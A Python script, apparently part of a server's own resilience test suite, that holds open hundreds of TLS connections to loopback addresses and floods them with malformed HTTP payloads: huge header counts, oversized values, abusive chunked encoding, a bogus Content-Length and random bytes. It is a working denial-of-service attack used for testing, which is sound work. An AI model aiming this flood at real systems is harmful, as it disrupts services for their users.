"""Requests without end that are never answered to anybody who listens, and what is no request at all."""

from __future__ import annotations

import os
import socket
import ssl

from misc.attack.target import Target, again_and_again, from_command_line, refused_or_cut

CONNECTIONS = 300
WORDS = (
    b"GET / HTTP/1.1\r\nHost: x\r\n\r\n" * 3000,
    b"GET /storage/v1/version HTTP/1.1\r\nHost: x\r\nAuthorization: Tahoe-LAFS eHh4\r\n\r\n" * 1000,
    b"GET / HTTP/1.1\r\n" + b"X-A: b\r\n" * 8000,
    b"GET / HTTP/1.1\r\nX-A: " + b"b" * 64000,
    b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n" + b"1\r\nx\r\n" * 8000,
    b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\n" + b"x" * 60000,
    b"POST / HTTP/1.1\r\nContent-Length: 99999999999999999\r\n\r\n" + b"x" * 60000,
    b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n" + b"X-T: b\r\n" * 8000,
    os.urandom(64000),
)


def attack(target: Target) -> None:
    """Keep connections, and say as much on each as it takes."""
    connections: dict[socket.socket, int] = {}
    # From other addresses than the honest client's, as in ``churn``.
    for turn in again_and_again(target, 0.002):
        if len(connections) < CONNECTIONS:
            with refused_or_cut():
                connection = target.connect_tls(f"127.0.1.{turn % 8 + 1}")
                connection.settimeout(0)
                connections[connection] = turn
        for each in list(connections)[turn % 10 :: 10]:
            number = connections.pop(each)
            if _send(each, WORDS[number % len(WORDS)]):
                connections[each] = number
            else:
                each.close()


def _send(connection: socket.socket, data: bytes) -> bool:
    """Say as much as there is room for; returns whether it is still open."""
    try:
        connection.send(data)
    except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError):
        return True
    except OSError:
        return False
    return True


if __name__ == "__main__":
    attack(from_command_line(__doc__))
